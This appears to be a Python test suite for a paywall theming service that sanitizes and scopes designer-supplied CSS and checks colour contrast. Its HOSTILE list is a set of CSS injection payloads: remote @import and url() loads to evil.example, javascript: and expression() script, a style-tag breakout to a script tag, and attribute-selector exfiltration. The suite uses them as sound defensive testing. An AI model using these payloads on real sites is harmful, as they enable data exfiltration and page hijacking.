"""What a designer at Stigg may do to the paywall, and what custom CSS tries in vain."""

from __future__ import annotations

import re
from typing import Any

import pytest
import tinycss2
from hypothesis import given
from hypothesis import strategies as st

from billing.services.theme import colours
from billing.services.theme.custom_css import ON_CONTAINER, PROPERTIES, VALUE_FUNCTIONS, scoped
from billing.services.theme.stylesheet import SCOPE, theme

HOSTILE = (
    '@import url("https://evil.example/x.css");',
    '@import "https://evil.example/x.css";',
    "@font-face { font-family: X; src: url(https://evil.example/x.woff2); }",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    "@charset 'utf-7';",
    "@layer reset { .plan { color: red } }",
    "@supports (display: grid) { body { display: none } }",
    "@keyframes roll { from { opacity: 0 } }",
    "@property --x { syntax: '*'; inherits: true; initial-value: url(//evil.example) }",
    "@page { margin: 0 }",
    "@media screen { @import url(//evil.example); @media print { .plan { color: red } } }",
    "@media (min-width: expression(alert(1))) { .plan { color: red } }",
    ".plan { background: url(https://evil.example/x.png) }",
    ".plan { background: URL( 'javascript:alert(1)' ) }",
    ".plan { background: u\\72l(https://evil.example) }",
    ".plan { background: \\75 rl(//evil.example) }",
    ".plan { background: image-set('https://evil.example/x.png' 1x) }",
    ".plan { background: -webkit-image-set(url(x) 1x) }",
    ".plan { background: image('https://evil.example') ; background: src('//evil.example') }",
    ".plan { background: cross-fade(url(a), url(b)) ; background: element(#main) }",
    ".plan { --x: url(//evil.example); background: var(--x) }",
    ".plan { --x: ; color: var(--x, url(//evil.example)) }",
    ".plan { content: attr(data-plan) ; content: 'You won' }",
    ".plan { behavior: url(x.htc); -moz-binding: url(x.xml#y) }",
    ".plan { width: expression(alert(1)) }",
    ".plan { position: fixed; inset: 0; z-index: 99999 }",
    ".plan { position: sticky; top: -9999px; transform: translate(-100vw) scale(99) }",
    ".plan { display: contents; animation: x 1s infinite; filter: url(#x); clip-path: url(#y); mask: url(#z) }",
    ".plan { cursor: url(//evil.example), auto; list-style: url(x); border-image: url(x); outline: none }",
    "body { display: none } html { visibility: hidden } :root { margin: -9em; width: 500vw; box-shadow: 0 0 99em red }",
    "* { position: fixed } body > * { display: none } html + div { color: red } :root ~ div { color: red }",
    "+ .site-head { color: red } ~ footer { color: red } > .plan { color: red }",
    "input[value^='a'] { background: url(//evil.example/a) }",
    ":has(input[value^='a']) { color: red } :host { color: red } ::slotted(x) { color: red }",
    ".plan { color: red } } body { display: none } .x {",
    ".plan { color: red; } </style><script>alert(1)</script>",
    "<!-- body { color: red } -->",
    ".plan { color: red /* */ ; /* } body { color: red } */ }",
    ".plan { color: 'unclosed\n; } body { display: none }",
    ".plan { & body { color: red } body & { display: none } .site-head & { color: red } }",
    ".plan { color: red !important; all: initial; contain: none; overflow: visible }",
    "a,b,,body{color:red}",
    "[data-x='] } body { color: red } [y='] { color: red }",
    "\u0000.plan\u0000 { color: red\u0000 }",
    ".\\7d body\\7b { color: red }",
    "@media all { .plan { color: red }",
    ".plan { color: rgb(255 0 0 / ",
)
SNIPPETS = st.sampled_from(
    (*HOSTILE, *"{}()[];:,.*>+~@\"'\\/<!-", "body", "url(", "x", "/*", "*/", "\n", " ", "&", "html")
)


def assert_harmless(css: str) -> None:
    """Read by a parser as a browser would: every rule is below the container and nothing is loaded."""
    for rule in tinycss2.parse_stylesheet(css, skip_comments=True, skip_whitespace=True):
        if rule.type == "at-rule":
            assert rule.lower_at_keyword == "media"
            inner = tinycss2.parse_rule_list(rule.content, skip_comments=True, skip_whitespace=True)
            assert_harmless_rules(inner)
        else:
            assert_harmless_rules([rule])


def assert_harmless_rules(rules: list[Any]) -> None:
    for rule in rules:
        assert rule.type == "qualified-rule", rule
        selectors = split_selectors(rule.prelude)
        for selector in selectors:
            assert re.match(rf"^{re.escape(SCOPE)}($| [^+~>\s])", selector), selector
        on_container = SCOPE in selectors
        for each in tinycss2.parse_blocks_contents(rule.content, skip_comments=True, skip_whitespace=True):
            assert each.type == "declaration", each
            assert not each.important
            assert (ON_CONTAINER if on_container else PROPERTIES).fullmatch(each.name), each.name
            assert_loads_nothing(each.value)


def split_selectors(prelude: list[Any]) -> list[str]:
    parts: list[list[Any]] = [[]]
    for token in prelude:
        parts.append([]) if token == "," else parts[-1].append(token)
    return [tinycss2.serialize(part).strip() for part in parts]


def assert_loads_nothing(tokens: list[Any]) -> None:
    for token in tokens:
        assert token.type not in {"url", "error", "at-keyword", "{} block", "unicode-range"}, token
        if token.type == "function":
            assert token.lower_name in VALUE_FUNCTIONS
            assert_loads_nothing(token.arguments)
        if token.type in {"() block", "[] block"}:
            assert_loads_nothing(token.content)


@pytest.mark.shows("P10")
@pytest.mark.parametrize("css", HOSTILE)
def test_hostile_css_does_no_harm(css: str) -> None:
    result = scoped(css, SCOPE)
    assert_harmless(result)
    assert not re.search(r"url|evil|script|import|fixed|expression|site-head|[<>]", result.lower())


@given(st.lists(SNIPPETS, max_size=12).map("".join))
def test_no_mixture_of_hostile_pieces_does_harm(css: str) -> None:
    assert_harmless(scoped(css, SCOPE))


@given(st.text(max_size=200))
def test_no_text_at_all_does_harm(css: str) -> None:
    assert_harmless(scoped(css, SCOPE))


@given(st.lists(SNIPPETS, max_size=8).map("".join))
def test_what_was_tamed_is_tame(css: str) -> None:
    once = scoped(css, "")
    assert "url(" not in once.lower()


@pytest.mark.shows("P10")
def test_what_is_allowed_arrives_below_the_container() -> None:
    css = """
      .stigg-plan-offering-container, .plan > h2 { border-radius: 4px; padding: calc(1rem + 2px) !important }
      body .price__text { color: color-mix(in oklch, red 20%, blue); font-family: "My Face", serif }
      :root { --color-brand: #123456; background: linear-gradient(red, blue); margin: 9px }
      @media (width >= 40rem) { .plan:hover { box-shadow: 0 1px 2px rgb(0 0 0 / 10%) } }
    """
    assert scoped(css, SCOPE).splitlines() == [
        f"{SCOPE} .plan, {SCOPE} .plan > h2 {{ border-radius: 4px; padding: calc(1rem + 2px); }}",
        f'{SCOPE} .price__text {{ color: color-mix(in oklch, red 20%, blue); font-family: "My Face", serif; }}',
        f"{SCOPE} {{ --color-brand: #123456; background: linear-gradient(red, blue); }}",
        "@media (width >= 40rem) {",
        f"{SCOPE} .plan:hover {{ box-shadow: 0 1px 2px rgb(0 0 0 / 10%); }}",
        "}",
    ]


@pytest.mark.parametrize(
    "css",
    [
        ".a { width: " + "(" * 20_000 + "}",
        ".a { width: " + "calc(" * 5_000 + "1px" + ")" * 5_000 + "}",
        ":is(" * 5_000 + ".a" + ")" * 5_000 + "{ color: red }",
    ],
)
def test_brackets_in_brackets_without_end_are_left_out(css: str) -> None:
    assert scoped(css, SCOPE) == ""


def test_css_of_an_absurd_length_is_left_out() -> None:
    assert scoped(".plan { color: red }" * 10_000, SCOPE) == ""


# Colours


@pytest.mark.parametrize(
    ("text", "css"),
    [
        ("#4f46e5", "#4f46e5"),
        ("rgb(255 0 0)", "#ff0000"),
        ("hsl(0 0% 100%)", "#ffffff"),
        ("RebeccaPurple", "#663399"),
        ("rgb(300, -5, 0)", "#ff0000"),
    ],
)
def test_colours_are_read_and_written_anew(text: str, css: str) -> None:
    found = colours.parse(text)
    assert found is not None
    assert found.css == css


@pytest.mark.parametrize(
    "text", ["", "currentColor", "#fff8", "transparent", "red;}", "url(x)", "var(--x)", None, 7, {}]
)
def test_what_is_no_opaque_colour_is_none(text: object) -> None:
    assert colours.parse(text) is None


def test_contrast_is_that_of_wcag() -> None:
    assert colours.contrast(colours.BLACK, colours.WHITE) == 21
    grey = colours.parse("#767676")
    assert grey
    assert round(colours.contrast(grey, colours.WHITE), 2) == 4.54


@pytest.mark.shows("P10")
def test_the_designers_palette_becomes_tokens_of_the_light_scheme() -> None:
    made = theme({"palette": {"primary": "#4f46e5", "textColor": "#111827", "backgroundColor": "#ffffff"}})
    assert made is not None
    assert made.notices == ()
    assert made.css.startswith("@media not (prefers-color-scheme: dark) {")
    for token in ("--color-brand: #4f46e5;", "--color-on-brand: #ffffff;", "--color-text: #111827;"):
        assert token in made.css


@pytest.mark.shows("P10")
def test_colours_that_cannot_be_read_on_each_other_are_left_out_and_staff_are_told() -> None:
    made = theme({"palette": {"textColor": "#999999", "backgroundColor": "#ffffff", "primary": "#ffee00"}})
    assert made is not None
    assert "--color-text" not in made.css
    assert "--color-brand" not in made.css
    assert [notice.partition(":")[0] for notice in made.notices] == ["textColor", "primary"]
    dark = theme({"palette": {"backgroundColor": "#000000", "borderColor": "#ff0000"}})
    assert dark is not None
    assert "--color-surface" not in dark.css


@pytest.mark.shows("P10")
def test_our_links_and_ticks_take_the_texts_colour_where_they_cannot_be_read_on_the_designers_ground() -> None:
    made = theme({"palette": {"backgroundColor": "#ff0000", "textColor": "#000000"}})
    assert made is not None
    assert "--color-surface: #ff0000;" in made.css
    assert "--color-brand: #000000;" in made.css
    assert "--color-on-brand: #ffffff;" in made.css
    plain = theme({"palette": {"backgroundColor": "#fffbea"}})
    assert plain is not None
    assert "--color-brand" not in plain.css


COLOURS = st.one_of(
    st.from_regex(r"#[0-9a-f]{6}", fullmatch=True),
    st.text(max_size=20),
    st.none(),
    st.sampled_from(["red", "#fff8", "}"]),
)
PALETTES = st.dictionaries(
    st.sampled_from(["primary", "textColor", "backgroundColor", "borderColor", "currentPlanBackground"]), COLOURS
)


@given(PALETTES)
def test_no_palette_makes_text_unreadable_or_breaks_the_stylesheet(palette: dict[str, Any]) -> None:
    made = theme({"palette": palette})
    if made is None:
        return
    tokens = dict(re.findall(r"(--color-[a-z-]+): (#[0-9a-f]{6});", made.css))
    text, ground = tokens.get("--color-text", "#11241d"), tokens.get("--color-surface", "#ffffff")
    pairs = [(text, ground), (tokens.get("--color-brand", "#006243"), ground)]
    if "--color-on-brand" in tokens:
        pairs.append((tokens["--color-on-brand"], tokens["--color-brand"]))
    for ink, on in pairs:
        read, behind = colours.parse(ink), colours.parse(on)
        assert read
        assert behind
        assert colours.is_readable(read, behind), (ink, on)
    assert made.css.count("{") == made.css.count("}")


# Type and layout


@pytest.mark.shows("P10")
def test_type_and_layout_follow_the_designer_within_reason() -> None:
    made = theme(
        {
            "typography": {
                "fontFamily": "Georgia",
                "h2": {"fontSize": 24, "fontWeight": "BOLD"},
                "body": {"fontSize": 900},
            },
            "layout": {"alignment": "CENTER", "planWidth": 280, "planMargin": 16, "planPadding": -5},
        }
    )
    assert made is not None
    assert '--font-text: "Georgia", system-ui, sans-serif;' in made.css
    assert f"{SCOPE} h2 {{ font-size: 1.5rem; font-weight: 700; }}" in made.css
    assert "56.25rem" not in made.css
    assert "justify-content: center" in made.css
    assert "17.5rem" in made.css
    assert "padding" not in made.css


@pytest.mark.parametrize("family", ['x"; } body { color: red', "url(x)", "a\\", "", 5, None])
def test_a_font_is_a_name_and_nothing_else(family: object) -> None:
    assert theme({"typography": {"fontFamily": family}}) is None


@pytest.mark.parametrize("configuration", [{}, {"palette": None, "customCss": None}, {"palette": [], "layout": "x"}])
def test_no_configuration_makes_no_stylesheet(configuration: dict[str, Any]) -> None:
    assert theme(configuration) is None


def test_the_version_changes_with_the_stylesheet() -> None:
    one, other = theme({"customCss": ".plan { color: red }"}), theme({"customCss": ".plan { color: blue }"})
    assert one
    assert other
    assert one.version != other.version
